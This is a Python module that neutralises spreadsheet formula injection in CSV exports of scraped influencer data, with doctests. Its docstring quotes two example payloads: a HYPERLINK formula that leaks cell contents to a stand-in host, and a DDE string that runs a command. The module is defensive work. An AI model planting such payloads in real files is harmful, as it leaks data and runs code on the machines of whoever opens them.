"""Every CSV the project writes goes through here, so no cell runs as a spreadsheet formula.

Handles, niches, captions and platforms come from scraped exports: a cell such as
``=HYPERLINK("https://evil.example/?x="&A1,"click")`` or ``+cmd|' /C calc'!A0`` would run in
Excel, LibreOffice or Google Sheets when a download is opened. `neutralise` prefixes ``'`` to
every text cell (and header) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (OWASP's advice on CSV injection); a spreadsheet shows the text and does not evaluate it.
A carriage return inside a cell becomes a line feed: Python's csv writer quotes a cell holding
``\n`` but not one holding a lone ``\r``, which a spreadsheet would read as a new row whose first
cell could be a formula.
Numbers stay numbers: numeric columns are not touched, and a text cell that is just a number
(``-5``, ``+1.5e3``, a negative raw value in a quarantine file) is left as it is.

Example:
    >>> frame = pd.DataFrame({"account_id": ["=1+2", "@ann", "bob"], "raw": ["-5", "-x", "7"],
    ...                       "followers": [-1.0, 2.0, 3.0]})
    >>> print(to_csv_text(frame), end="")
    account_id,raw,followers
    '=1+2,-5,-1.0
    '@ann,'-x,2.0
    bob,7,3.0
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO, Any

import pandas as pd

from inflresearch.atomic import atomic_write

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d[\d,]*\.?\d*|\.\d+)([eE][+-]?\d+)?%?")


def neutral_text(value: str) -> str:
    """`value` with ``'`` in front when a spreadsheet would read it as a formula.

    Example:
        >>> neutral_text("=cmd"), neutral_text("-12.5"), neutral_text("\\tx"), neutral_text("a\\r=b")
        ("'=cmd", '-12.5', "'\\tx", 'a\\n=b')
    """
    if value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        value = "'" + value
    if "\r" in value:  # Python's csv writer quotes "\n" but not a lone "\r", a line break elsewhere
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def _neutral_cell(value: Any) -> Any:
    if isinstance(value, str):
        return neutral_text(value)
    if isinstance(value, list | tuple | dict | set):  # written as their text
        return neutral_text(str(value))
    return value  # numbers, dates, booleans


def neutralise(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names cannot run as formulas (see module).

    Example:
        >>> neutralise(pd.DataFrame({"-x": ["+a", "b"], "n": [-1, 2]})).to_dict("list")
        {"'-x": ["'+a", 'b'], 'n': [-1, 2]}
    """
    out = frame.copy(deep=False)
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        if pd.api.types.is_numeric_dtype(column.dtype) or pd.api.types.is_datetime64_any_dtype(column.dtype):
            continue
        values = column.map(_neutral_cell, na_action="ignore")
        out.isetitem(i, values.astype(column.dtype) if pd.api.types.is_string_dtype(column.dtype) else values)
    out.columns = [neutral_text(c) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str], **to_csv: Any) -> None:
    """``neutralise(frame).to_csv(target, index=False, **to_csv)``: the one CSV writer.

    Example:
        >>> import io
        >>> buffer = io.StringIO()
        >>> write_csv(pd.DataFrame({"a": ["@x"]}), buffer)
        >>> buffer.getvalue()
        "a\\n'@x\\n"
    """
    neutralise(frame).to_csv(target, index=False, **to_csv)


def to_csv_text(frame: pd.DataFrame, **to_csv: Any) -> str:
    """The CSV text of `frame`, neutralised (for downloads embedded in a report)."""
    return str(neutralise(frame).to_csv(index=False, **to_csv))


def save_csv(frame: pd.DataFrame, path: str | Path) -> Path:
    """Write `frame` neutralised to a new file `path`, atomically; never replaces a file.

    Example:
        >>> import tempfile
        >>> p = Path(tempfile.mkdtemp()) / "niches.csv"
        >>> save_csv(pd.DataFrame({"niche": ["=x"]}), p).read_text()
        "niche\\n'=x\\n"
    """
    return atomic_write(path, lambda tmp: write_csv(frame, tmp), exclusive=True)
